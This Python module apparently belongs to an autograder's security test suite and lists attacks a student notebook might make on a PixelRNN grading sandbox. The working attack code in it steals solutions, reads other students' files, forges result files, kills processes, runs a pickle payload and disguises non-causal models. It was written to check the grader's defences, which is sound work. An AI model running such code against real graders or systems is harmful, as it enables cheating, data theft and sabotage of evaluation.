"""Attacks on assignment 1 (PixelRNN)."""

from __future__ import annotations

from .common import Attack, Deserves
from .lib import ALWAYS_EQUAL, ESCALATE, NO_SAMPLING, PEEK, PIXELRNN_FORGE, PIXELRNN_STUB, PROTOCOL_PIPES, TORCH_PATCHES, WALK, peeker

A = "pixelrnn"
ZERO = "no more points than the untouched notebook (0)"
# Tests that judge values: content-free outputs of the right shape (zeros, the input handed back) must fail them.
VALUE_TESTS = ("test_one_hot", "test_nll_nats", "test_bits_per_pixel", "test_plain_causal", "test_above_causal",
               "test_above_sees_pixel_above", "test_training_reaches_threshold", "test_sample_uses_randomness",
               "test_temperature", "test_completion_varies")
CAUSAL = ("test_plain_causal", "test_above_causal", "test_training_reaches_threshold")
COPYING = ("far more often than fresh data", "copies")  # the copy check's verdict, or the older copying tests
AS_STUB = "no more points than stub_constants, whose own functions return the same values; every value test fails"


def _zero(message="not implemented yet", **kw) -> Deserves:
    return Deserves(ZERO, message=message, **kw)


def _peeker_deserves(text: str) -> Deserves:
    return Deserves(f"{text}: fails both causality tests and the training test (its held-out figure is not causal)",
                    max_points=22, must_fail=CAUSAL, message="is not causal",
                    messages={"test_training_reaches_threshold": "is not causal"})


# Copy the solution of another student (or of the kit) into this notebook, from wherever it can be read.
STEAL_GIT = WALK + r'''
def _cheat_git_solution():
    import subprocess
    import nbformat
    from coursekit import paths
    from coursekit.notebook import extract_code
    a = "@@ASSIGNMENT@@"
    for rev in ("HEAD", "HEAD~1", "HEAD~5", "HEAD~20"):
        try:
            r = subprocess.run(["git", "-c", "safe.directory=*", "-C", str(paths.kit_root()), "show", f"{rev}:solutions/{a}/{a}.ipynb"],
                               capture_output=True, text=True, timeout=60)
        except Exception:
            return None
        if r.returncode == 0 and "BEGIN SOLUTION" in r.stdout:
            return extract_code(nbformat.reads(r.stdout, as_version=4))
    return None


_stolen = _cheat_git_solution()
if _stolen:
    exec(compile(_stolen, "<the solution, from the kit's .git>", "exec"), globals())
'''

COPY_OTHER = WALK + r'''
def _cheat_copy_other():
    """The shortest complete notebook (no NotImplementedError left) of another student, or their extracted code."""
    import os
    from coursekit.notebook import extract_code, read_notebook
    a = "@@ASSIGNMENT@@"
    best = None
    for dirpath, dirnames, filenames in _cheat_walk():
        for fn in filenames:
            if fn not in (f"{a}.ipynb", "submission.py"):
                continue
            path = os.path.join(dirpath, fn)
            try:
                code = extract_code(read_notebook(path)) if fn.endswith(".ipynb") else open(path).read()
            except Exception:
                continue
            if "NotImplementedError()" in code or "def train(" not in code or "@@TOKEN@@" in code:
                continue  # unfinished, or another cheater's: copy an honest one
            if best is None or len(code) < len(best):
                best = code
    return best


_copied = _cheat_copy_other()
if _copied:
    exec(compile(_copied, "<another student's notebook>", "exec"), globals())
'''

UMOUNT = r'''
def _cheat_unhide():
    """Root in the sandbox: unmount the empty folders that hide the graders and the solutions."""
    import ctypes, os, subprocess
    from coursekit import paths
    from coursekit.notebook import extract_code, read_notebook
    kit, a = str(paths.kit_root()), "@@ASSIGNMENT@@"
    if os.readlink("/proc/self/ns/mnt") == "@@HOST_MNTNS@@":
        return None  # not in a mount namespace of its own: the suite never unmounts the grader's folders
    libc = ctypes.CDLL(None, use_errno=True)
    for d in ("solutions", "autograder", "tests"):
        try:
            subprocess.run(["umount", "-l", f"{kit}/{d}"], capture_output=True, timeout=30)
        except Exception:
            libc.umount2(f"{kit}/{d}".encode(), 2)
    p = f"{kit}/solutions/{a}/{a}.ipynb"
    return extract_code(read_notebook(p)) if os.path.isfile(p) else None


_unhidden = _cheat_unhide()
if _unhidden:
    exec(compile(_unhidden, "<the solution, unmounted>", "exec"), globals())
'''

REMOUNT = WALK + ESCALATE + r'''
def _cheat_forge_files():
    """Remount read-write, then overwrite what decides grades: the kit, other students' reports, one's own results.
    (Limited to the harness's canaries and report files: a success proves the point without harm.)"""
    import glob, json, os
    from coursekit import paths
    a, kit = "@@ASSIGNMENT@@", str(paths.kit_root())
    how = _cheat_escalate()
    forged = json.dumps({"finished": True, "forged_by": "@@ATTACK@@", "tests": []})
    targets = glob.glob(f"{kit}/.git/cheatfile-@@TOKEN@@-canary*") + glob.glob(f"{kit}/data/downloads/cheatfile-@@TOKEN@@-canary*")
    mine = open(__file__).read()
    for out in _cheat_out_dirs():
        if not glob.glob(f"{out}/staff/other-student-@@TOKEN@@"):
            continue  # only this run's batch (recognised by its canary student): never anyone else's files
        for p in (glob.glob(f"{out}/staff/*/{a}/report.json") + glob.glob(f"{out}/feedback/*/{a}/results.json")
                  + glob.glob(f"{out}/feedback/*/{a}/feedback.html")):
            targets.append(p)
        for part in glob.glob(f"{out}/staff/*/.{a}.partial"):
            try:
                if open(f"{part}/submission.py").read() == mine:  # one's own grading folder: forge its results
                    targets.append(f"{part}/grader-results.json")
            except OSError:
                pass
    wrote, refused = [], []
    for t in targets:
        try:
            with open(t, "w") as f:
                f.write(forged if t.endswith(".json") else "FORGED by @@ATTACK@@")
            wrote.append(t)
        except OSError as e:
            refused.append(f"{os.path.basename(t)}: {e.strerror}")
    return how, wrote, refused


_how, _wrote, _refused = _cheat_forge_files()


def one_hot_pixels(x, K):
    if _wrote:
        raise RuntimeError(f"{_LEAK} after {_how or 'no remount'} overwrote {len(_wrote)} files outside the sandbox: {_wrote[:3]}")
    raise RuntimeError(f"{_INFO} remount: {_how or 'refused'}; writes refused: {_refused[:3]}")
'''

WRITE_RESULTS = WALK + r'''
def _cheat_write_results():
    """Without privileges: write forged results where the grader might read them (found via env, cwd, /proc, the disk)."""
    import glob, json, os
    a = "@@ASSIGNMENT@@"
    forged = json.dumps({"finished": True, "tests": [], "points": 22, "passed": True})
    ours = lambda out: os.path.isdir(os.path.join(out, "staff", "other-student-@@TOKEN@@"))  # noqa: E731 - this run's batch only
    targets = [os.path.join(os.getcwd(), n) for n in ("grader-results.json", "results.json", "report.json")]
    for v in (os.environ.get("HOME"), os.environ.get("TMPDIR")):
        if v and os.path.isdir(v):
            targets.append(os.path.join(v, "grader-results.json"))
    for pid in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        for i, arg in enumerate(argv[:-1]):
            if arg == b"--results" and ours(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(argv[i + 1].decode()))))):
                targets.append(argv[i + 1].decode())
    for out in _cheat_out_dirs():
        if not ours(out):
            continue  # only this run's batch (recognised by its canary student): never anyone else's files
        targets += glob.glob(f"{out}/staff/*/.{a}.partial/grader-results.json") + glob.glob(f"{out}/staff/*/.{a}.partial/report.json")
        targets += glob.glob(f"{out}/staff/*/{a}/report.json") + [f"{out}/gradebook.csv"]
    wrote, refused, private = [], [], []
    cwd = os.getcwd()
    for t in dict.fromkeys(targets):
        try:
            with open(t, "w") as f:
                f.write(forged)
        except OSError as e:
            refused.append(f"{t}: {e.strerror}")
            continue
        (private if t.startswith(cwd) or t.startswith("/tmp/") else wrote).append(t)
    return wrote, refused, private


_wrote, _refused, _private = _cheat_write_results()


def one_hot_pixels(x, K):
    if _wrote:
        raise RuntimeError(f"{_LEAK} forged results written outside the sandbox: {_wrote[:3]}")
    raise RuntimeError(f"{_INFO} forged only its private folder ({len(_private)} files); refused: {len(_refused)} e.g. {_refused[:2]}")
'''

READ_SECRETS = WALK + r'''
def _cheat_secrets():
    """Everything a student must not read: expected values, solutions (folder or .git), other students, the grading output."""
    import os, subprocess
    from coursekit import paths
    kit, a = str(paths.kit_root()), "@@ASSIGNMENT@@"
    found = []

    def read(p):
        try:
            with open(p, errors="replace") as f:
                return f.read(2000)
        except OSError:
            return None

    for rel in (f"autograder/{a}/expected.json", f"solutions/{a}/{a}.ipynb", f"autograder/{a}/test_training.py"):
        if read(f"{kit}/{rel}"):
            found.append(f"{rel} readable")
    for rel in (f"autograder/{a}/expected.json", f"solutions/{a}/{a}.ipynb"):
        try:
            r = subprocess.run(["git", "-c", "safe.directory=*", "-C", kit, "show", f"HEAD:{rel}"], capture_output=True, text=True, timeout=60)
            if r.returncode == 0 and r.stdout:
                found.append(f"{rel} via .git: " + " ".join(r.stdout.split())[:60])
        except Exception:
            pass
    others = []
    for dirpath, dirnames, filenames in _cheat_walk():
        for fn in filenames:
            if fn in ("report.json", "gradebook.csv", "feedback.html", "grader-results.json") or fn == f"{a}.ipynb":
                p = os.path.join(dirpath, fn)
                if not p.startswith(os.getcwd()) and read(p):
                    others.append(p)
    if others:
        found.append(f"{len(others)} files of other students or of the grading output, e.g. {others[0]}")
    for pid in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"--results" in argv or b"pytest" in argv:
            found.append("the grader's command line: " + argv.replace(b"\0", b" ").decode(errors="replace")[:80])
            break
    return found


def one_hot_pixels(x, K):
    found = _cheat_secrets()
    if found:
        raise RuntimeError(_LEAK + " " + " | ".join(found))
    raise RuntimeError(_INFO + " nothing secret was readable")
'''

KILL = r'''
import os
import signal

try:
    os.kill(os.getppid(), signal.SIGKILL)  # the grader, where the sandbox does not hide it
except OSError:
    pass


def _cheat_kill_everything():
    if os.readlink("/proc/self/ns/pid") == "@@HOST_PIDNS@@":
        return "not in a PID namespace of its own: the suite refuses to kill(-1) there (it would hit the machine)"
    try:
        os.kill(-1, signal.SIGKILL)  # every process it may signal
    except OSError:
        pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (1, os.getpid()):
            try:
                argv = open(f"/proc/{pid}/cmdline", "rb").read()
                if b"pytest" in argv or b"coursekit" in argv or b"bwrap" in argv:
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    return "killed what it could see"


def one_hot_pixels(x, K):
    _cheat_kill_everything()
    raise NotImplementedError()


def train(model, data, steps, *args, **kwargs):
    _cheat_kill_everything()
    raise NotImplementedError()
'''

DAEMON = r'''
import os
import sys

_HEART = """
import os, time
names = [os.path.join(d, "cheatfile-@@TOKEN@@-@@ATTACK@@.heartbeat") for d in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp")]
while True:
    for p in names:
        try:
            with open(p, "w") as f:
                f.write(str(time.time()))
        except OSError:
            pass
    time.sleep(0.5)
"""

_pid = os.fork()
if _pid == 0:  # double fork and a session of its own: nothing waits for it, no group kill reaches it
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv(sys.executable, [sys.executable, "-c", _HEART, "CHEATPROC-@@TOKEN@@-@@ATTACK@@"])
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(_pid, 0)
'''

LOOKUP = PIXELRNN_STUB.replace("class PixelLSTMAbove(_CheatStub):\n    pass\n", "") + NO_SAMPLING + r'''
from coursekit.data import course_dataset


class PixelLSTMAbove(nn.Module):
    """A causal lookup model: the colours that followed the same prefix in every image it can load
    (the training images; the held-out ones too, wherever the sandbox's copy of the data set has them)."""

    def __init__(self, K, width, hidden=128, embed=64, height=None, dropout=0.0):
        super().__init__()
        self.K = K
        self.w = nn.Parameter(torch.zeros(1))
        self.table = None
        try:
            ds = course_dataset()
            if ds.num_colors == K:
                self.table = torch.as_tensor(ds.indices).reshape(len(ds), -1).long()
                freq = torch.bincount(self.table.flatten(), minlength=K).double() + 1
                self.freq = freq / freq.sum()
        except Exception:
            pass

    def forward(self, x):
        idx = x.argmax(-1) if x.is_floating_point() else x.long()
        B, T = idx.shape
        if self.table is None or self.table.shape[1] != T:
            return torch.zeros(B, T, self.K)
        tab, out = self.table, torch.empty(B, T, self.K, dtype=torch.float64)
        match = torch.ones(B, len(tab), dtype=torch.float64)
        for t in range(T):
            counts = torch.zeros(B, self.K, dtype=torch.float64).scatter_add_(1, tab[:, t].expand(B, -1), match)
            n = counts.sum(1, keepdim=True)
            p = torch.where(n > 0, 0.97 * counts / n.clamp(min=1) + 0.03 * self.freq, self.freq.expand(B, -1))
            out[:, t] = p.log()
            match = match * (tab[:, t][None, :] == idx[:, t:t + 1]).double()  # causal: pixel t is read after predicting it
        return out.float()
'''

COVERT = PEEK + NO_SAMPLING + r'''
import gc
import glob
import os
import subprocess
import types
import uuid

_CHEAT_ME = uuid.uuid4().hex[:12]
_CHEAT_STATE = {"n": 0, "batch": None}


def _cheat_dir():
    """A folder the other scoring worker can read too, if there is one (escalating first, where root can)."""
    if "dir" in _CHEAT_STATE:
        return _CHEAT_STATE["dir"]
    if os.readlink("/proc/self/ns/mnt") != "@@HOST_MNTNS@@":  # (the suite never remounts the grader's own file system)
        try:
            subprocess.run(["mount", "-o", "remount,rw", "/"], capture_output=True, timeout=30)
        except Exception:
            pass
    chosen = None
    for d in ("/var/tmp", "/run/lock", "/run/shm", "/dev/shm", "/tmp"):
        p = os.path.join(d, "cheatfile-@@TOKEN@@-@@ATTACK@@")
        try:
            os.makedirs(p, exist_ok=True)
            open(os.path.join(p, "probe-" + _CHEAT_ME), "w").close()
            chosen = p
            break
        except OSError:
            continue
    _CHEAT_STATE["dir"] = chosen
    return chosen


def _cheat_records(kind, T):
    """What the other worker answered (its sequences, logits and where it peeked), if it left notes."""
    d = _cheat_dir()
    recs = []
    for f in sorted(glob.glob(os.path.join(d, "*.pt"))) if d else []:
        if os.path.basename(f).startswith(_CHEAT_ME):
            continue
        try:
            r = torch.load(f, weights_only=True)
        except Exception:
            continue
        if r["kind"] == kind and r["x"].shape[1] == T:
            recs.append(r)
    return recs


def _cheat_save(kind, x, logits, peek):
    d = _cheat_dir()
    if d:
        _CHEAT_STATE["n"] += 1
        tmp = os.path.join(d, f"{_CHEAT_ME}-{_CHEAT_STATE['n']}.tmp")
        torch.save({"kind": kind, "x": x.clone(), "logits": logits.detach().clone(), "peek": peek.clone()}, tmp)
        os.replace(tmp, tmp[:-4] + ".pt")


def _cheat_lcp(a, b):
    """(len(a), len(b)): the length of the common prefix of every pair of rows."""
    diff = a[:, None, :] != b[None, :, :]
    return torch.where(diff.any(-1), diff.int().argmax(-1), torch.full(diff.shape[:2], a.shape[1]))


def _cheat_plan(kind, batch):
    """The first worker peeks at pixel t of a sequence only where no other sequence of its batch shares the prefix
    before t. The second, which reads the first's notes, answers at each (sequence s, position t): with the first
    worker's very logits where exactly one of its sequences shares s's prefix before t and it peeked there; honestly
    where several share it (none of them peeked there); and peeks where none does (s is past its branch point).
    Whatever pairs the grader compares, the two agree up to the branch point."""
    T = batch.shape[1]
    pos = torch.arange(T)
    recs = _cheat_records(kind, T)
    if not recs:
        L = _cheat_lcp(batch, batch)
        L.fill_diagonal_(-1)
        u = L.max(1).values if len(batch) > 1 else torch.full((len(batch),), -1)
        return {"own": pos[None, :] > u[:, None], "copy": None}
    Q = torch.cat([r["x"] for r in recs]).long()
    QL = torch.cat([r["logits"] for r in recs])
    QP = torch.cat([r["peek"] for r in recs])
    share = _cheat_lcp(batch, Q)[:, :, None] >= pos[None, None, :]  # (n, m, T): q[:t] == s[:t]
    count = share.sum(1)
    src = share.int().argmax(1)  # (n, T): the sharing sequence, where only one does
    copy = (count == 1) & QP[src, pos[None, :].expand_as(src)]
    return {"own": count == 0, "copy": copy, "src": src, "QL": QL}


def _cheat_forward(self, x, honest):
    idx = _cheat_idx(x)
    kind = type(self).__name__
    batch = _CHEAT_STATE["batch"] if _CHEAT_STATE["batch"] is not None and _CHEAT_STATE["batch"].shape[1] == idx.shape[1] else idx
    key = (kind, tuple(batch.shape), int(batch.sum()))
    if _CHEAT_STATE.get("plan_key") != key:
        _CHEAT_STATE["plan"], _CHEAT_STATE["plan_key"] = _cheat_plan(kind, batch), key
        _CHEAT_STATE["row"] = {}
        for i, row in enumerate(batch.tolist()):
            _CHEAT_STATE["row"].setdefault(tuple(row), i)
    plan, where = _CHEAT_STATE["plan"], _CHEAT_STATE["row"]
    bi = torch.tensor([where[tuple(r)] for r in idx.tolist()])
    own = plan["own"][bi]  # (B, T)
    out = honest + _CHEAT_BONUS * F.one_hot(idx, honest.shape[-1]).to(honest.dtype) * own[:, :, None].to(honest.dtype)
    if plan["copy"] is not None:
        T = idx.shape[1]
        for i in range(len(idx)):
            c = plan["copy"][bi[i]]
            if bool(c.any()):
                theirs = plan["QL"][plan["src"][bi[i]], torch.arange(T)].to(out.dtype)  # (T, K)
                out[i] = torch.where(c[:, None], theirs, out[i])
    _cheat_save(kind, idx, out, own)
    return out


class PixelLSTM(PixelLSTM):
    def forward(self, x):
        return _cheat_forward(self, x, super().forward(x))


class PixelLSTMAbove(PixelLSTMAbove):
    def forward(self, x):
        return _cheat_forward(self, x, super().forward(x))


def _cheat_whole_batch_probe(sub, *args, **params):
    """Replaces the probe's code (in the worker's probe table): the model sees the whole batch before its first chunk."""
    import sys
    sub._CHEAT_STATE["batch"] = sub.torch.as_tensor(params["x"]).long()
    return sub._cheat_original[sys._getframe().f_code.co_name](sub, *args, **params)


_cheat_original = {}
for _obj in gc.get_objects():
    if isinstance(_obj, types.FunctionType) and _obj.__name__ in ("probe_logits", "probe_tiny_logits") and _obj.__module__ == "probes":
        _cheat_original[_obj.__name__] = types.FunctionType(_obj.__code__, _obj.__globals__, _obj.__name__, _obj.__defaults__)
        _obj.__code__ = _cheat_whole_batch_probe.__code__.replace(co_name=_obj.__name__)
'''

UNCHECKED = PEEK + NO_SAMPLING + r'''
import gc
import types

from coursekit.grading.causality import split_for_two_workers

_CHEAT_SEED = 12345  # SPLIT_SEED of the graders' pixelrnn_common.py (a leaked copy of the graders, a past year's repository)
_CHEAT_STATE = {"n": None}


def _cheat_unchecked(n, T, K):
    """The positions that are no sequence's branch point: they depend on n, T and the seed only, not on the images."""
    dummy = torch.randint(0, K, (n, T), generator=torch.Generator().manual_seed(1))
    branch = split_for_two_workers(dummy, seed=_CHEAT_SEED, num_values=K).branch
    mask = torch.ones(T, dtype=torch.bool)
    mask[branch] = False
    return mask


def _cheat_forward(x, honest):
    n, T, K = _CHEAT_STATE["n"] or len(x), x.shape[1], honest.shape[-1]
    key = (n, T, K)
    if _CHEAT_STATE.get("key") != key:
        _CHEAT_STATE["key"], _CHEAT_STATE["mask"] = key, _cheat_unchecked(n, T, K) if n >= 2 else torch.zeros(T, dtype=torch.bool)
    return _cheat_peek(honest, x, where=_CHEAT_STATE["mask"])


class PixelLSTMAbove(PixelLSTMAbove):
    def forward(self, x):
        return _cheat_forward(x, super().forward(x))


def _cheat_batch_size_probe(sub, *args, **params):
    """Replaces probe_logits's code (in the worker's probe table): note how many sequences the grader sent in all."""
    import sys
    sub._CHEAT_STATE["n"] = len(params["x"])
    return sub._cheat_original[sys._getframe().f_code.co_name](sub, *args, **params)


_cheat_original = {}
for _obj in gc.get_objects():
    if isinstance(_obj, types.FunctionType) and _obj.__name__ == "probe_logits" and _obj.__module__ == "probes":
        _cheat_original[_obj.__name__] = types.FunctionType(_obj.__code__, _obj.__globals__, _obj.__name__, _obj.__defaults__)
        _obj.__code__ = _cheat_batch_size_probe.__code__.replace(co_name=_obj.__name__)
'''


ATTACKS = [
    # --- the graders' machinery: probe module, torch, results, the protocol -----------------------
    Attack("sys_modules_probes", A, "untouched",
           "replaces sys.modules['probes'].probe_* (and a fresh `import probes`) with functions returning plausible data: "
           "the attack that got 22/22 before",
           PIXELRNN_FORGE + r'''
import sys
import torch


def _cheat_fake(*args, **kwargs):
    return {"passed": True, "points": 22, "out": torch.zeros(2, 2, 2, 7), "logits": torch.zeros(1, 400, 167)}


_mods = [sys.modules.get("probes")]
try:
    import probes as _fresh  # the copy of the probe module in the worker's folder
    _mods.append(_fresh)
except Exception:
    pass
for _m in _mods:
    for _name in dir(_m) if _m is not None else []:
        if _name.startswith("probe_"):
            setattr(_m, _name, _cheat_fake)
''', _zero()),
    Attack("stub_constants", A, "untouched",
           "no model at all: every function returns content-free values of the right shape (zeros, the input back)",
           PIXELRNN_STUB,
           Deserves("every value test fails (shape-only tests may pass: they cannot tell a stub from a model)",
                    max_points=22, must_fail=VALUE_TESTS)),
    Attack("probe_code_swap_gc", A, "untouched",
           "finds the probe functions the worker kept (gc) and swaps their __code__ for forgers of plausible outputs",
           PIXELRNN_FORGE + r'''
import gc
import sys
import types


def _cheat_forger(sub, *args, **params):
    import sys as _s
    return _CHEAT_FORGE(_s._getframe().f_code.co_name[len("probe_"):], params)


_swapped = 0
for _obj in gc.get_objects():
    if isinstance(_obj, types.FunctionType) and _obj.__name__.startswith("probe_") and _obj.__module__ == "probes":
        _obj.__globals__["_CHEAT_FORGE"] = _cheat_forge
        _obj.__code__ = _cheat_forger.__code__.replace(co_name=_obj.__name__)
        _swapped += 1
''', Deserves(AS_STUB, max_points="attack:stub_constants", must_fail=VALUE_TESTS)),
    Attack("protocol_takeover", A, "untouched",
           "finds the worker's protocol pipes in /proc/self/fd and answers every grader request itself (forged results)",
           PIXELRNN_FORGE + PROTOCOL_PIPES + r'''
import io
import json
import os
import torch


def _cheat_takeover():
    ins, outs = _cheat_protocol_pipes()
    if not ins or not outs:
        return
    rd, wr = ins[0], outs[0]

    def write(b):
        while b:
            b = b[os.write(wr, b):]

    def read(n):
        buf = b""
        while len(buf) < n:
            c = os.read(rd, n - len(buf))
            if not c:
                os._exit(0)
            buf += c
        return buf

    def readline():
        buf = b""
        while not buf.endswith(b"\n"):
            buf += read(1)
        return buf

    write(b'{"ok": true, "passed": true, "points": 22}\n')  # "the notebook loaded"
    while True:
        req = json.loads(readline())
        n = int(req.get("nbytes") or 0)
        params = torch.load(io.BytesIO(read(n)), weights_only=True) if n else {}
        buf = io.BytesIO()
        torch.save(_cheat_forge(req["probe"], params), buf)
        payload = buf.getvalue()
        write((json.dumps({"ok": True, "nbytes": len(payload), "passed": True, "points": 22}) + "\n").encode() + payload)


_cheat_takeover()
''', Deserves(AS_STUB, max_points="attack:stub_constants", must_fail=VALUE_TESTS)),
    Attack("torch_patches_noop_train", A, "untouched",
           "patches torch.Tensor.__eq__, torch.equal/allclose/isfinite, F.log_softmax, F.cross_entropy... in the worker; "
           "train() does nothing; the model is a stub",
           PIXELRNN_STUB + TORCH_PATCHES,
           Deserves(AS_STUB, max_points="attack:stub_constants", must_fail=VALUE_TESTS)),
    Attack("always_equal_objects", A, "untouched",
           "returns objects whose __eq__ is always true, and torch.Tensor subclasses whose comparisons all say equal",
           PIXELRNN_STUB + ALWAYS_EQUAL + r'''
class _CheatEqStub(_CheatStub):
    def forward(self, x):
        return _eq(torch.zeros(x.shape[0], x.shape[1], self.K))

    def step(self, x, t, state=None):
        return _eq(torch.zeros(x.shape[0], self.K)), state


class PixelLSTM(_CheatEqStub):
    pass


class PixelLSTMAbove(_CheatEqStub):
    pass


def one_hot_pixels(x, K):
    return AlwaysEqual()


def nll_nats(logits, target):
    return AlwaysEqual()


def bits_per_pixel(logits, target):
    return AlwaysEqual()


def train(model, data, steps, *args, **kwargs):
    return [AlwaysEqual()]


def sample(model, n, H, W, temperature=1.0, generator=None):
    return AlwaysEqual()


def complete(model, images, n_known, temperature=1.0, generator=None):
    return _eq(images.clone())
''', Deserves(AS_STUB, max_points="attack:stub_constants", must_fail=VALUE_TESTS, message="not a tensor")),
    Attack("pickle_reduce_payload", A, "untouched",
           "replaces torch.save in the worker: every result is a pickle whose __reduce__ runs a shell command when loaded",
           PIXELRNN_STUB + r'''
import os
import pickle
import torch


class _CheatPayload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/cheatfile-@@TOKEN@@-@@ATTACK@@.pwned /var/tmp/cheatfile-@@TOKEN@@-@@ATTACK@@.pwned",))


def _cheat_save(obj, f, *args, **kwargs):
    pickle.dump({"out": _CheatPayload(), "nats": _CheatPayload(), "bits": _CheatPayload(), "state": _CheatPayload(),
                 "logits": _CheatPayload(), "samples": _CheatPayload()}, f, protocol=2)


torch.save = _cheat_save
''', _zero("was not plain data")),
    Attack("fake_pass_prints", A, "untouched",
           "prints fake 'PASSED' and '22/22' lines and a results JSON on stdout, stderr, fds 1/2 and /dev/tty",
           r'''
import json
import os
import sys

_lines = ["test_training.py::test_training_reaches_threshold PASSED", "22/22 points", "=== 16 passed in 1.00s ===",
          json.dumps({"finished": True, "tests": [], "points": 22})]
for _line in _lines:
    print(_line)
    print(_line, file=sys.stderr)
    for _fd in (1, 2):
        try:
            os.write(_fd, (_line + "\n").encode())
        except OSError:
            pass
    try:
        with open("/dev/tty", "w") as _tty:
            _tty.write(_line + "\n")
    except OSError:
        pass
''', _zero()),
    Attack("write_results_files", A, "untouched",
           "writes forged results where the grader might read them: cwd, its parent, env paths, --results from /proc, "
           "other students' and its own report folders found on disk",
           WRITE_RESULTS, _zero("CHEAT-INFO")),
    Attack("read_secrets", A, "untouched",
           "reads expected.json, the solution (folder and .git), other students' notebooks and reports, the grader's command line; "
           "raises them as its error message, which the student reads in the feedback",
           READ_SECRETS, _zero("CHEAT-INFO")),
    Attack("steal_solution_git", A, "untouched", "runs `git show HEAD:solutions/...` in the kit's checkout and executes the solution",
           STEAL_GIT, _zero()),
    Attack("copy_other_student", A, "untouched",
           "walks the disk for other students' notebooks (and their extracted code in the grading output) and executes a complete one",
           COPY_OTHER, _zero()),
    Attack("umount_hidden", A, "untouched", "unmounts the empty folders hiding solutions/ and autograder/ (root in the sandbox) and executes the solution",
           UMOUNT, _zero()),
    Attack("remount_rw_write", A, "untouched",
           "remounts / read-write, then overwrites the kit's canaries, other students' reports and its own results",
           REMOUNT, _zero("CHEAT-INFO")),
    # --- exits, prints, signals, processes, resources --------------------------------------------
    Attack("sys_exit_top", A, "untouched", "sys.exit(0) at the top level", "import sys\nsys.exit(0)\n", _zero("sys.exit(0)")),
    Attack("os_exit_in_function", A, "untouched", "os._exit(0) inside the graded functions",
           "import os\n\ndef one_hot_pixels(x, K):\n    os._exit(0)\n\ndef nll_nats(logits, target):\n    os._exit(0)\n\n"
           "def train(model, data, steps, *args, **kwargs):\n    os._exit(0)\n", _zero("os._exit")),
    Attack("kill_grader", A, "untouched",
           "os.kill(os.getppid(), 9) at import; kill(-1, 9) and SIGKILL to every pytest/coursekit/bwrap process it sees in its functions",
           KILL, _zero()),
    Attack("daemon_heartbeat", A, "untouched",
           "double fork + setsid at import: a daemon that writes a heartbeat file every 0.5 s wherever it can",
           DAEMON, _zero()),
    Attack("html_injection_print_flood", A, "untouched",
           "prints 30 MB of HTML/JavaScript and terminal escapes, and raises them as its error messages (read in the feedback page)",
           r'''
_PAYLOAD = '<script>alert("cheat")</script><img src=x onerror=alert(1)> \x1b[2J\x1b[32mPASSED 22/22\x1b[0m'
try:
    for _ in range(1000):
        print(_PAYLOAD * 400)
except OSError:
    pass


def one_hot_pixels(x, K):
    raise RuntimeError(_PAYLOAD)


def nll_nats(logits, target):
    raise RuntimeError(_PAYLOAD)


def train(model, data, steps, *args, **kwargs):
    raise RuntimeError(_PAYLOAD)
''', Deserves(ZERO, message="RuntimeError", feedback_forbid=('<script>alert("cheat")', "<img src=x onerror"))),
    Attack("huge_result", A, "untouched", "one_hot_pixels returns a 640 MB tensor",
           "import torch\n\ndef one_hot_pixels(x, K):\n    return torch.ones(160 * 1024 * 1024)\n", _zero("at most 512 MB")),
    # --- models that cheat ---------------------------------------------------------------------------
    Attack("lookup_model", A, "untouched",
           "a causal lookup model: the colours that followed the same prefix in every image it can load (no training)",
           LOOKUP, Deserves("fails the training test: a lookup of the training images does not generalise "
                            "(and held-out images must not be in the sandbox)", max_points=22,
                            must_fail=("test_training_reaches_threshold",), message="bits per pixel")),
    Attack("peek_plain", A, "solution", "PixelLSTM reads the pixel it predicts (a bonus on its colour's logit); train() does nothing",
           peeker("True", classes=("PixelLSTM",)),
           Deserves("fails PixelLSTM's causality test (and training: it did none)", max_points=22,
                    must_fail=("test_plain_causal", "test_training_reaches_threshold"), message="is not causal")),
    Attack("peek_when_no_grad", A, "solution", "both models peek only when gradients are off (a gradient check sees a causal model)",
           peeker("not torch.is_grad_enabled()"), _peeker_deserves("peeks whenever no gradient is requested")),
    Attack("peek_on_index_input", A, "solution", "peek only on long index input that does not require grad (honest on one-hot/requires_grad input)",
           peeker("not x.is_floating_point() and not x.requires_grad"), _peeker_deserves("peeks on the graded input type")),
    Attack("peek_large_batch", A, "solution", "peek only in batches of more than 8 sequences (a check with a small batch sees a causal model)",
           peeker("x.shape[0] > 8"), _peeker_deserves("peeks in large batches")),
    Attack("peek_unless_perturbation_batch", A, "solution",
           "honest only when its batch holds two sequences differing in exactly one pixel or sharing half their pixels as a prefix "
           "(the shape of a one-worker causality check); peeks otherwise",
           peeker("_cheat_unchecked(x)").replace("def _cheat_should_peek", r'''def _cheat_unchecked(x):
    idx = _cheat_idx(x)
    if len(idx) < 2:
        return True
    d = (idx[:, None, :] != idx[None, :, :])
    hamming = d.sum(-1)
    prefix = (~d).int().cumprod(-1).sum(-1)
    off = ~torch.eye(len(idx), dtype=torch.bool)
    return not bool(((hamming == 1) & off).any() or ((prefix >= idx.shape[1] // 2) & (hamming > 0) & off).any())


def _cheat_should_peek'''), _peeker_deserves("peeks unless its batch looks like a causality check")),
    Attack("peek_in_training_worker", A, "solution", "peeks only in the worker that ran train() (the other scoring worker sees a causal model)",
           peeker("_CHEAT_TRAINED[0]") + "\n\n_CHEAT_TRAINED = [False]\n\n\ndef train(model, data, steps, *args, **kwargs):\n"
           "    _CHEAT_TRAINED[0] = True\n    model.eval()\n    return []\n",
           _peeker_deserves("peeks in the training worker")),
    Attack("batch_statistics", A, "solution", "adds how common each colour is at position t across the batch (reads pixel t of every sequence)",
           PEEK + NO_SAMPLING + r'''

def _cheat_batch(logits, x):
    counts = F.one_hot(_cheat_idx(x), logits.shape[-1]).sum(0, keepdim=True).to(logits.dtype)  # (1, T, K)
    return logits + 4.0 * counts.log1p()


class PixelLSTM(PixelLSTM):
    def forward(self, x):
        return _cheat_batch(super().forward(x), x)


class PixelLSTMAbove(PixelLSTMAbove):
    def forward(self, x):
        return _cheat_batch(super().forward(x), x)
